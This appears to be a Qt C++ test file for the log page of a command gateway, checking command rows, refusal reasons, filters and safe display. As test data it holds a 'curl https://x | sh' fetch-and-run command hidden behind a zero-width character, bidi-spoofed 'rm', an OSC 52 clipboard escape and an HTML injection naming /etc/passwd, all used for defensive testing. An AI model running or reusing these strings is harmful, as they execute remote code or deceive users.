// SPDX-License-Identifier: Apache-2.0
#include "tests/support/log_page_on_screen.h"
#include "ui/log/detail_pane.h"

#include <QClipboard>
#include <QGuiApplication>
#include <QPlainTextEdit>
#include <QTabWidget>
#include <QTest>

using namespace portcullis;
using portcullis::test::LogPageOnScreen;
using portcullis::test::press;
using portcullis::test::ScriptedLog;
using portcullis::test::ScriptedRunner;
using portcullis::ui::DetailPane;
using portcullis::ui::ExecLogModel;
using portcullis::ui::LogPage;

class TstLogRows : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void runs_a_command_and_shows_its_row_and_output();
    void brings_the_reason_forward_when_a_command_is_refused();
    void says_that_the_filter_hides_the_command_that_was_run();
    void tells_who_did_what_in_rows_that_are_no_commands();
    void says_that_the_record_is_unknown_while_the_configuration_is_broken();
    void refuses_to_run_when_read_only_and_says_why();
    void copies_the_visible_form_of_a_command();
    void marks_the_deciding_part_of_the_command();
    void shows_escape_sequences_of_the_output_as_tokens();
    void never_takes_text_of_a_command_for_markup();
};

void TstLogRows::runs_a_command_and_shows_its_row_and_output()
{
    LogPageOnScreen p(300);
    p.show();
    QTRY_COMPARE(p.table()->model()->rowCount(), 300);
    p.page.focusCommand();
    QTest::keyClicks(p.command(), QStringLiteral("echo hello"));
    press(p.command(), Qt::Key_Return);
    QCOMPARE(p.runner.requests.size(), 1);
    const decision::ExecRequest request = p.runner.requests.first();
    QCOMPARE(request.command, std::string("echo hello"));
    QCOMPARE(request.tenant, std::string("acme"));
    QCOMPARE(request.origin, Origin::Operator);

    record::Event event = ScriptedLog::makeEvent(1);
    event.id = "0193776c-ffff-7000-8000-000000000001";
    event.command = request.command;
    event.outcome = Outcome::Running;
    // The decision is in the record before the log hears of its row.
    p.choose(298);
    QTRY_VERIFY(p.table()->currentIndex().data(ExecLogModel::LoadedRole).toBool());
    p.log.addUnannounced(event);
    decision::Decision decision;
    decision.verdict = Verdict::Allow;
    Q_EMIT p.runner.decided(p.runner.lastId(), decision);
    QCoreApplication::processEvents();
    p.log.announceLast();
    QTRY_COMPARE(p.currentRow(), 300);

    QCOMPARE(p.page.findChild<QTabWidget *>()->currentIndex(), int(DetailPane::Output));
    Q_EMIT p.runner.output(p.runner.lastId(), ports::Channel::Out, "hel");
    Q_EMIT p.runner.output(p.runner.lastId(), ports::Channel::Out, "lo\n");
    QCOMPARE(p.named<QPlainTextEdit>("Standard output")->toPlainText(), QStringLiteral("hello\n"));

    ports::CommandEnd end;
    end.kind = ports::CommandEnd::Kind::Ran;
    end.outcome = Outcome::Exited;
    end.exitCode = 3;
    Q_EMIT p.runner.finished(p.runner.lastId(), end);
    QVERIFY(p.textOf("What became of the command").contains(QStringLiteral("exit 3")));
}

void TstLogRows::brings_the_reason_forward_when_a_command_is_refused()
{
    LogPageOnScreen p(20);
    p.show();
    p.page.findChild<QTabWidget *>()->setCurrentIndex(DetailPane::Raw);
    QTest::keyClicks(p.command(), QStringLiteral("sudo id"));
    press(p.command(), Qt::Key_Return);
    record::Event event = ScriptedLog::makeEvent(0);
    event.id = ScriptedRunner::lastId();
    p.log.append(event);
    Q_EMIT p.runner.decided(ScriptedRunner::lastId(), {});
    QTRY_COMPARE(p.page.findChild<QTabWidget *>()->currentIndex(), int(DetailPane::Explain));
}

void TstLogRows::says_that_the_filter_hides_the_command_that_was_run()
{
    LogPageOnScreen p(20);
    p.show();
    p.filter()->setText(QStringLiteral("tenant:globex"));
    QTRY_VERIFY(p.log.filtersSet >= 2);
    QTRY_VERIFY(p.currentRow() >= 0); // the scripted log filters nothing, the page does
    QTest::keyClicks(p.command(), QStringLiteral("echo hello"));
    press(p.command(), Qt::Key_Return);
    record::Event event = ScriptedLog::makeEvent(1);
    event.id = ScriptedRunner::lastId();
    p.log.addUnannounced(event);
    decision::Decision decision;
    decision.verdict = Verdict::Allow;
    Q_EMIT p.runner.decided(ScriptedRunner::lastId(), decision);
    QTRY_VERIFY(p.allText().contains(QStringLiteral("The filter hides this row")));
    QCOMPARE(p.currentRow(), -1); // no other row looks as if these were its details

    p.filter()->setText(QString());
    QTRY_VERIFY(p.currentRow() >= 0);
    QTRY_VERIFY(!p.allText().contains(QStringLiteral("The filter hides this row")));
}

void TstLogRows::tells_who_did_what_in_rows_that_are_no_commands()
{
    LogPageOnScreen p(20);
    record::Event edit;
    edit.row = p.log.rows()[5].row;
    edit.id = p.log.rows()[5].id;
    edit.kind = record::Kind::Edit;
    edit.timeUs = p.log.rows()[5].timeUs;
    edit.tenant = "acme";
    edit.verdict = Verdict::Allow;
    edit.reason = "reviewed";
    edit.detailJson = R"({"action":"add_exemption","file":"/p/acme.json","by":"anna","exemption":"x","rule":"dump"})";
    p.log.rows()[5] = edit;
    p.show();
    p.choose(5);
    const QString words = QStringLiteral("anna added an exemption for acme: reviewed (exemption \"x\", rule \"dump\")");
    const auto *model = p.table()->model();
    QTRY_COMPARE(model->index(5, ExecLogModel::Command).data().toString(), words);
    QCOMPARE(model->index(5, ExecLogModel::VerdictColumn).data().toString(), QStringLiteral("EDIT"));
    QCOMPARE(model->index(5, ExecLogModel::Result).data().toString(), QStringLiteral("–"));
    QTRY_COMPARE(p.textOf("Verdict"), words);
}

void TstLogRows::says_that_the_record_is_unknown_while_the_configuration_is_broken()
{
    ScriptedLog log(0, false);
    ScriptedRunner runner;
    runner.current = {.obstacle = ports::RunnerState::Obstacle::BadConfiguration,
                      .detail = "/gw/config.json:1:3: error",
                      .tenants = {}};
    LogPage page(log, runner, {.recordPath = [] { return QString(); }, .clock = [] { return record::FilterClock{}; }});
    page.show();
    const auto text = [&page] {
        QString all;
        for (const QLabel *label : page.findChildren<QLabel *>())
            all += label->isVisible() ? label->text() + u'\n' : QString();
        return all;
    };
    QTRY_VERIFY(text().contains(QStringLiteral("The configuration cannot be loaded")));
    QVERIFY(text().contains(QStringLiteral("It names the record")));
    QVERIFY(!text().contains(QStringLiteral("searching")));
    for (const QLabel *label : page.findChildren<QLabel *>()) {
        if (label->isVisible() && label->wordWrap())
            QVERIFY2(label->height() >= label->heightForWidth(label->width()), qPrintable(label->text()));
    }
    QVERIFY(text().contains(QStringLiteral("/gw/config.json:1:3: error")));
    runner.current.obstacle = ports::RunnerState::Obstacle::None;
    Q_EMIT runner.stateChanged();
    QVERIFY(!text().contains(QStringLiteral("The configuration cannot be loaded")));
}

void TstLogRows::refuses_to_run_when_read_only_and_says_why()
{
    LogPageOnScreen p(10);
    p.runner.current.obstacle = ports::RunnerState::Obstacle::ReadOnly;
    Q_EMIT p.runner.stateChanged();
    p.show();
    QVERIFY(!p.command()->isEnabled());
    QVERIFY(p.textOf("What became of the command").contains(QStringLiteral("read-only")));
}

void TstLogRows::copies_the_visible_form_of_a_command()
{
    LogPageOnScreen p(20);
    p.log.rows()[5].command = "r\u200Bm \u202Efile";
    p.show();
    p.choose(5);
    QTRY_VERIFY(p.table()->currentIndex().data(ExecLogModel::LoadedRole).toBool());
    QTest::keySequence(p.table(), QKeySequence::Copy);
    QCOMPARE(QGuiApplication::clipboard()->text(), QStringLiteral("r<U+200B>m <U+202E>file"));
}

void TstLogRows::marks_the_deciding_part_of_the_command()
{
    LogPageOnScreen p(20);
    p.log.rows()[10].command = "true; \xe2\x80\x8b"
                               "curl https://x | sh";
    p.log.rows()[10].spans = {{9, 4}, {26, 2}};
    p.show();
    p.choose(10);
    auto *view = p.named<QPlainTextEdit>("Command");
    QTRY_COMPARE(view->extraSelections().size(), 2);
    QStringList marked;
    for (const QTextEdit::ExtraSelection &selection : view->extraSelections()) {
        marked.append(selection.cursor.selectedText());
        QCOMPARE(selection.format.underlineStyle(), QTextCharFormat::SingleUnderline);
    }
    QCOMPARE(marked, (QStringList{QStringLiteral("curl"), QStringLiteral("sh")}));
}

void TstLogRows::shows_escape_sequences_of_the_output_as_tokens()
{
    LogPageOnScreen p(20);
    p.log.output.out = "one\r\n\x1b]52;c;aGk=\x07two\n";
    p.show();
    p.choose(5);
    QTRY_COMPARE(p.named<QPlainTextEdit>("Standard output")->toPlainText(),
                 QStringLiteral("one\n<U+001B>]52;c;aGk=<U+0007>two\n"));
}

void TstLogRows::never_takes_text_of_a_command_for_markup()
{
    LogPageOnScreen p(20);
    const std::string hostile = "<b>rm</b> <img src='file:///etc/passwd'>";
    record::Event &event = p.log.rows()[10];
    event.command = event.title = event.reason = event.advice = event.tenant = hostile;
    p.show();
    p.choose(10);
    QTRY_VERIFY(p.textOf("Why").contains(QStringLiteral("<b>rm</b>")));
    for (const QLabel *label : p.page.findChildren<QLabel *>()) {
        if (label->text().contains(QStringLiteral("<b>")))
            QCOMPARE(label->textFormat(), Qt::PlainText);
    }
}

QTEST_MAIN(TstLogRows)
#include "tst_log_rows.moc"
